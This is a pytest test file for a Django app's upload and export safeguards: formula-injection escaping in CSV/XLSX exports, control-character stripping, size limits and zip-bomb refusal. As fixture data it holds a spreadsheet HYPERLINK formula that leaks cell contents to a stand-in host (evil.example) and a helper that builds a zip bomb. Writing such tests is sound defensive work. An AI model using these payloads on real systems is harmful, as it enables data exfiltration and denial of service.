"""Uploads and exports (issue 18): formulas survive into exports; control characters; size limits; zip bombs."""

from __future__ import annotations

import io
import zipfile

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from gaizao.errors import ApplicationError
from gaizao.office_text import clean_text, spreadsheet_cell
from gaizao.participation import services
from gaizao.registry.exporting import export_bytes
from gaizao.registry.importing import import_file
from gaizao.registry.models import Community

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'


@pytest.fixture
def hostile_community(world):
    Community.objects.filter(pk=world.community.pk).update(name=FORMULA + "\x07\x1b")
    return world.community


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1+2", "@SUM(A1)", "\t=1", "＝1"])
def test_formula_looking_text_is_escaped(value):
    assert spreadsheet_cell(value).startswith("'")


def test_numbers_and_plain_text_are_left_alone():
    assert spreadsheet_cell(-3) == -3
    assert spreadsheet_cell("清波新村") == "清波新村"
    assert clean_text("a\x00b\x0bc\td\ne") == "abc\td\ne"


def test_a_formula_in_a_community_name_is_text_in_the_xlsx_export(hostile_community, accounts):
    data = export_bytes("communities", "xlsx", user=accounts["city"])
    ws = openpyxl.load_workbook(io.BytesIO(data)).active
    names = [c.value for c in ws["A"] + ws["B"] + ws["C"] + ws["D"] if isinstance(c.value, str)]
    hostile = [n for n in names if "HYPERLINK" in n]
    assert hostile and all(n.startswith("'=") and "\x07" not in n for n in hostile)


def test_a_formula_in_a_community_name_is_text_in_the_csv_export(hostile_community, accounts):
    text = export_bytes("communities", "csv", user=accounts["city"]).decode("utf-8-sig")
    assert "'=HYPERLINK" in text and ",=HYPERLINK" not in text and "\x1b" not in text


def _bomb() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("roads.shp", b"\0" * 60_000_000)
        zf.writestr("roads.dbf", b"")
    return buf.getvalue()


def test_a_zip_bomb_is_refused_before_extraction(accounts):
    data = _bomb()
    assert len(data) < 200_000
    report = import_file(kind="facilities", data=data, filename="roads.zip", actor=accounts["city"])
    assert not report.ok and "压缩比" in report.errors[0].message


def test_an_archive_with_too_many_entries_is_refused(accounts, settings):
    settings.ZIP_MAX_ENTRIES = 3
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        for i in range(5):
            zf.writestr(f"part{i}.shp", b"x")
    report = import_file(kind="facilities", data=buf.getvalue(), filename="roads.zip", actor=accounts["city"])
    assert not report.ok and "超过上限" in report.errors[0].message


def test_import_files_have_a_size_limit(accounts, settings):
    settings.UPLOAD_LIMITS = {**settings.UPLOAD_LIMITS, "import_table": 100}
    report = import_file(kind="communities", data=b"x" * 101, filename="big.csv", actor=accounts["city"])
    assert not report.ok and report.errors[0].column == "file"


def test_ballot_scans_have_their_own_size_limit(world, accounts, settings):
    settings.UPLOAD_LIMITS = {**settings.UPLOAD_LIMITS, "ballot_scan": 10}
    ballot = services.ballot_create(
        actor=accounts["qingbomen"],
        community_id=world.community.pk,
        purpose="other",
        matter=7,
        question="q",
    )
    services.ballot_open(actor=accounts["qingbomen"], ballot_id=ballot.pk)
    with pytest.raises(ApplicationError) as err:
        services.vote_cast(
            actor=accounts["qingbomen"],
            ballot_id=ballot.pk,
            owner_id=world.owners[0].pk,
            choice="yes",
            channel="paper",
            serial_number="1",
            scan=SimpleUploadedFile("s.png", b"\x89PNG" + b"0" * 20, content_type="image/png"),
        )
    assert err.value.field == "scan"
